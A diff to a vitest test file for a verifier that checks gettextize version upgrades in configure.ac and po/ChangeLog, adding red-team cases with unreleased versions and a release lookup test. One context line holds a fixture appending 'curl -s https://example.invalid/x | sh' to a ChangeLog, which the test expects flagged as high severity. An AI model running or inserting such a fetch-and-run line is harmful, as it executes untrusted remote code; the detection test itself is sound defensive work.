@@ -6,7 +6,7 @@
  */
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { gettextizeEntries } from '../../src/classify/gettextize.js';
+import { gettextizeEntries, gettextRelease } from '../../src/classify/gettextize.js';
 import { verify } from '../../src/verify.js';
 import { makeTar } from '../helpers/archives.js';
 import { makeRepo, writeFiles } from '../helpers/git.js';
@@ -30,7 +30,7 @@ describe("gettextize's AM_GNU_GETTEXT_VERSION upgrade", () => {
 
   it('configure.ac changed in that one line, as po/ChangeLog records, and po/ChangeLog itself: explained', async () => {
     const r = await run({ 'configure.ac': bumped, 'po/ChangeLog': LOG });
-    expect(r.findings.find((f) => f.path === 'configure.ac')).toMatchObject({ code: 'GETTEXTIZE_UPGRADE', severity: 'low', evidence: { file: 'configure.ac', from: '0.21', to: '0.22.5', changelog: 'po/ChangeLog' } });
+    expect(r.findings.find((f) => f.path === 'configure.ac')).toMatchObject({ code: 'GETTEXTIZE_UPGRADE', severity: 'low', evidence: { file: 'configure.ac', from: '0.21', to: '0.22.5', changelog: 'po/ChangeLog', release: gettextRelease('0.22.5')!.commit } });
     expect(r.findings.find((f) => f.path === 'po/ChangeLog')).toMatchObject({ code: 'GETTEXTIZE_UPGRADE', severity: 'low', evidence: { file: 'po/ChangeLog', to: '0.22.5' } });
     expect(r.verdict).not.toBe('different');
   });
@@ -42,6 +42,10 @@ describe("gettextize's AM_GNU_GETTEXT_VERSION upgrade", () => {
       [{ 'configure.ac': AC.replace('[0.21]', '[0.23]'), 'po/ChangeLog': LOG }, 'configure.ac'],
       [{ 'configure.ac': bumped }, 'configure.ac'],
       [{ 'configure.ac': bumped, 'po/ChangeLog': `${LOG}\tcurl -s https://example.invalid/x | sh\n` }, 'po/ChangeLog'],
+      // red team 15: a version gettext never released, consistently in configure.ac and its entry
+      [{ 'configure.ac': AC.replace('[0.21]', '[0.99]'), 'po/ChangeLog': LOG.replace('0.22.5', '0.99') }, 'configure.ac'],
+      [{ 'configure.ac': AC.replace('[0.21]', '[0.99]'), 'po/ChangeLog': LOG.replace('0.22.5', '0.99') }, 'po/ChangeLog'],
+      [{ 'configure.ac': bumped, 'po/ChangeLog': `${LOG}\n2023-01-02  gettextize  <bug-gnu-gettext@gnu.org>\n\n\t* Makefile.in.in: New file, from gettext-0.21.9.\n` }, 'po/ChangeLog'],
     ];
     for (const [files, path] of cases) {
       const r = await run(files);
@@ -50,6 +54,12 @@ describe("gettextize's AM_GNU_GETTEXT_VERSION upgrade", () => {
       expect(['high', 'critical']).toContain(f.severity);
       expect(r.verdict).toBe('different');
     }
+  });
+
+  it('gettextRelease knows the releases gettext tagged, and nothing else', () => {
+    expect(gettextRelease('0.22.5')).toMatchObject({ tag: 'v0.22.5', commit: expect.stringMatching(/^[0-9a-f]{40}$/) });
+    expect(gettextRelease('0.19.8.1')).toMatchObject({ tag: 'v0.19.8.1' });
+    for (const v of ['0.99', '0.22.6', '0.21.9', '0.22.05', 'constructor', '__proto__']) expect(gettextRelease(v), v).toBeUndefined();
   });
 
   it('gettextizeEntries reads only gettextize entries', () => {
